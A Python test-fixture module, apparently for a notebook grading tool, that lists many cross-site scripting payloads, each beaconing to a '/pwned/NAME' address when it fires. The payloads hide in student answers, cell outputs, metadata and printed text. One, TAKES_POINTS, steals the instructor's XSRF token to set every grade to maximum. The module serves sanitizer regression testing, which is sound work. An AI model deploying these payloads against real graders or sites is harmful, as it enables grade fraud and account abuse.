"""Ways to make a page act that students can hand in: each asks for the address `/pwned/NAME` if it does.

A script asks for it, and so does a picture, a style sheet, a form, a link that is followed or a page that is left.
"""

import base64
from collections.abc import Iterator
from typing import Any

from nbformat.notebooknode import NotebookNode

MARK = "pwned"


def script(name: str) -> str:
    """JavaScript that asks for the spelling's address, and can stand in any attribute and any link."""
    return f"fetch('/{MARK}/{name}')"


TAKES_POINTS = (
    "fetch(base_url+'/api/grades?submission_id='+submission_id).then(r=>r.json()).then(all=>all.forEach(g=>"
    "fetch(base_url+'/api/grade/'+g.id,{method:'PUT',headers:{'Content-Type':'application/json',"
    "'X-XSRFToken':document.cookie.match(/_xsrf=([^;]*)/)[1]},"
    "body:JSON.stringify({id:g.id,manual_score:g.max_score,extra_credit:5})})));" + script("points")
)
"""The fault that was found: a script that gives its author every point there is, with the instructor's rights."""


def _data_url(name: str) -> str:
    page = f"<img src='https://example.org/{MARK}/{name}'>"
    return "data:text/html;base64," + base64.b64encode(page.encode()).decode()


ANSWERS: dict[str, str] = {
    "points": f"<script>{TAKES_POINTS}</script>",
    "script": f"A script.\n\n<script>{script('script')}</script>",
    "img-onerror": f'<img src="x:" onerror="{script("img-onerror")}">',
    "inline-onerror": f"In a line <img src=x: onerror={script('inline-onerror')}> of text.",
    "svg-onload": f'<svg onload="{script("svg-onload")}"><desc>x</desc></svg>',
    "svg-script": f"<svg><script>{script('svg-script')}</script></svg>",
    "svg-animate": f'<svg><animate onbegin="{script("svg-animate")}" attributeName=x dur=1s></svg>',
    "details-ontoggle": f'<details open ontoggle="{script("details-ontoggle")}">x</details>',
    "input-onfocus": f'<input autofocus onfocus="{script("input-onfocus")}">',
    "body-onload": f'<body onpageshow="{script("body-onload")}">',
    "hover": f'<b onmouseover="{script("hover")}">hover</b>',
    "style-animation": "<style>@keyframes k{}b{animation:k 1s}</style>"
    f'<b onanimationstart="{script("style-animation")}">x</b>',
    "style-url": f"<style>body{{background:url(/{MARK}/style-url)}}</style>",
    "style-attribute": f'<p style="background:url(/{MARK}/style-attribute)">x</p>',
    "javascript-link": f"[full marks](javascript:{script('javascript-link')})",
    "javascript-entity": f"[x](jav&#x61;script:{script('javascript-entity')})",
    "javascript-tab": f'<a href="java&#9;script:{script("javascript-tab")}">x</a>',
    "javascript-reference": f"[x][r]\n\n[r]: <javascript:{script('javascript-reference')}>",
    "own-address-link": f"[my notes](/formgrader?path=/{MARK}/own-address-link)",
    "link-near": f"[my notes]({MARK}/link-near)",
    "link-outside": f"<https://example.org/{MARK}/link-outside>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{script("iframe-srcdoc")}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{script("iframe-javascript")}"></iframe>',
    "iframe-data": f'<iframe src="{_data_url("iframe-data")}"></iframe>',
    "iframe-own": f'<iframe src="/{MARK}/iframe-own"></iframe>',
    "object": f'<object data="/{MARK}/object"></object>',
    "embed": f'<embed src="/{MARK}/embed">',
    "meta-refresh": f'<meta http-equiv="refresh" content="1;url=/{MARK}/meta-refresh">',
    "base": f'<base href="https://example.org/{MARK}/base/"><img src="x.png">',
    "form": f'<form action="/{MARK}/form"><button>Next</button></form>',
    "formaction": f'<form><button formaction="javascript:{script("formaction")}">Next</button></form>',
    "link-stylesheet": f'<link rel="stylesheet" href="/{MARK}/link-stylesheet">',
    "link-prefetch": f'<link rel="preload" as="image" href="/{MARK}/link-prefetch">',
    "video": f'<video><source onerror="{script("video")}" src="x:"></video>',
    "picture-markdown": f"![x](/{MARK}/picture-markdown)",
    "picture-files": f"![x](files/{MARK}/picture-files)",
    "math-href": rf"$$\href{{/{MARK}/math-href}}{{x}}$$",
    "math-javascript": rf"$$\href{{javascript:{script('math-javascript')}}}{{x}}$$",
    "math-inline": rf"An inline \\(\href{{/{MARK}/math-inline}}{{y}}\\) formula.",
    "math-style": rf"$$\style{{background:url(/{MARK}/math-style)}}{{z}}$$",
    "math-unicode": rf"$$\unicode[url(/{MARK}/math-unicode)]{{65}}$$",
    "math-environment": rf"\begin{{align}}\href{{/{MARK}/math-environment}}{{x}}\end{{align}}",
    "math-element": f'<math><mtext href="/{MARK}/math-element" xlink:href="javascript:{script("math-element")}">x',
    "math-script": rf'<script type="math/tex">\href{{/{MARK}/math-script}}{{x}}</script>',
    "math-config": f'<script type="text/x-mathjax-config">{script("math-config")}</script>',
    "mermaid": f'```mermaid\nx</pre><img src=x: onerror="{script("mermaid")}">\n```',
    "fence-info": f'```x"><img/src=x:/onerror={script("fence-info")}>\nx\n```',
    "heading": f"# x<img src=x: onerror={script('heading')}>",
    "table": f"|a|\n|---|\n|<img src=x: onerror={script('table')}>|",
    "title": f'[x](# "\'><img src=x: onerror={script("title")}>")',
    "attachment": "![x](attachment:a.png)",
    "comment": f"<!-- --!><img src=x: onerror={script('comment')}> -->",
    "cdata": f"<![CDATA[><img src=x: onerror={script('cdata')}>]]>",
    "clean-block": f'<div class="tex2jax_ignore mathjax_ignore"><img src=x: onerror={script("clean-block")}></div>',
    "close-div": f"</div></div></div><img src=x: onerror={script('close-div')}>",
    "template": f"{{{{ 7 * 7 }}}}{{% raw %}}<img src=x: onerror={script('template')}>",
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={script("noscript")}>">',
    "form-control": '<input id="attention-why_scale-answer" value="2"><textarea>x</textarea>',
}
"""Name -> what a student writes into an answer."""

_IMG = '<img src="x:" onerror="{}">'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script></svg>'

OUTPUTS: dict[str, dict[str, Any]] = {
    "html-script": {"text/html": f"<script>{script('html-script')}</script>"},
    "html-img": {"text/html": _IMG.format(script("html-img"))},
    "html-frame": {"text/html": f"<iframe srcdoc='<script>{script('html-frame').replace(chr(39), '`')}</script>'>"},
    "javascript": {"application/javascript": script("javascript")},
    "svg": {"image/svg+xml": _SVG.format(script("svg"))},
    "markdown": {"text/markdown": _IMG.format(script("markdown"))},
    "markdown-link": {"text/markdown": f"[x](javascript:{script('markdown-link')})"},
    "latex": {"text/latex": rf"$$\href{{/{MARK}/latex}}{{x}}$$"},
    "mermaid-output": {"text/vnd.mermaid": f"x</pre>{_IMG.format(script('mermaid-output'))}"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{_IMG.format(script('widget'))}"},
    },
    "vega": {"application/vnd.vegalite.v5+json": {"usermeta": {"embedOptions": {"actions": script("vega")}}}},
    "json": {"application/json": {"a": _IMG.format(script("json"))}},
    "pdf": {"application/pdf": f"/{MARK}/pdf"},
    "plain": {"text/plain": _IMG.format(script("plain"))},
    "plain-list": {"text/plain": ["<pre>", "</pre>", _IMG.format(script("plain-list"))]},
    "png": {"image/png": f'x"><script>{script("png")}</script><img alt="'},
    "png-text": {"image/png": base64.b64encode(f"<script>{script('png-text')}</script>".encode()).decode()},
    "jpeg": {"image/jpeg": f'" onerror="{script("jpeg")}'},
    "unknown": {"application/x-nbgrader": _IMG.format(script("unknown"))},
}
"""Name -> the data of an output."""

PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
OUTPUT_METADATA: dict[str, dict[str, Any]] = {
    "png-width": {
        "image/png": {"width": f"1 onload={script('png-width')}"},
        "width": f"1 onload={script('png-width')}",
    },
    "png-alt": {"image/png": {"alt": f'"><script>{script("png-alt")}</script>'}},
    "png-filename": {"filenames": {"image/png": f"/{MARK}/png-filename"}},
    "isolated": {"text/html": {"isolated": True}, "isolated": True},
}
"""Name -> the metadata of an output with a picture."""

PRINTED: dict[str, str] = {
    "stream": _IMG.format(script("stream")),
    "stream-end": f"</pre></div>{_IMG.format(script('stream-end'))}",
    "stream-osc8": f"\x1b]8;;javascript:{script('stream-osc8')}\x07click\x1b]8;;\x07",
    "stream-colour": f'\x1b[38;2;1;2;3"><img src=x: onerror={script("stream-colour")}>mred',
    "stream-math": rf"$$\href{{/{MARK}/stream-math}}{{x}}$$",
}
"""Name -> what a cell prints."""


def metadata(name: str) -> dict[str, Any]:
    """Metadata in which every text is a spelling."""
    text = f'x"></title>{_IMG.format(script(name))}'
    return {
        "title": text,
        "kernelspec": {"name": text, "display_name": text, "language": text},
        "language_info": {"name": text, "pygments_lexer": text, "mimetype": text},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{text}"}}},
        "authors": [{"name": text}],
        "toc": {"title_cell": text},
    }


def all_names() -> set[str]:
    """The names of all spellings."""
    return {*ANSWERS, *OUTPUTS, *OUTPUT_METADATA, *PRINTED, "notebook", "tag", "count", "error", "verdict", "source"}


def cells() -> Iterator[str]:
    """The code of cells whose outputs are these spellings, run in a kernel."""
    yield "from IPython.display import display\n_kernel = get_ipython().kernel"
    for data in OUTPUTS.values():
        yield f"display({data!r}, raw=True)"
    for extra in OUTPUT_METADATA.values():
        yield f"display({{'image/png': {PICTURE!r}, 'text/html': 'x'}}, raw=True, metadata={extra!r})"
    for text in PRINTED.values():
        yield f"print({text!r})"
    yield f"raise ValueError({_IMG.format(script('error'))!r})"
    count = _IMG.format(script("count"))
    yield f"_kernel.send_response(_kernel.iopub_socket, 'execute_input', {{'code': '', 'execution_count': {count!r}}})"
    yield f"# {_IMG.format(script('source'))} </script></pre>"


def put_into(notebook: NotebookNode, answer: str) -> NotebookNode:
    """Put spellings into an executed notebook as it lay on the disk before outputs were cleaned.

    Args:
        notebook: the released notebook; it is changed.
        answer: what the questions are answered with.
    """
    shown = [{"output_type": "display_data", "data": data, "metadata": {}} for data in OUTPUTS.values()]
    shown += [
        {"output_type": "display_data", "data": {"image/png": PICTURE, "text/html": "x"}, "metadata": extra}
        for extra in OUTPUT_METADATA.values()
    ]
    shown += [{"output_type": "stream", "name": "stdout", "text": text} for text in PRINTED.values()]
    text = _IMG.format(script("error"))
    shown.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
    notebook.metadata.update(metadata("notebook"))
    outputs = iter(shown)
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and not marks:
            cell.outputs = [NotebookNode(one) for one in (next(outputs, None), next(outputs, None)) if one]
            cell.metadata["tags"] = [f'x">{_IMG.format(script("tag"))}']
        elif cell.cell_type == "markdown" and marks.get("solution"):
            cell.source = answer
            cell.attachments = {"a.png": {"image/png": f'x" onerror="{script("attachment")}'}}
    assert next(outputs, None) is None, "the notebook has too few cells"
    return notebook
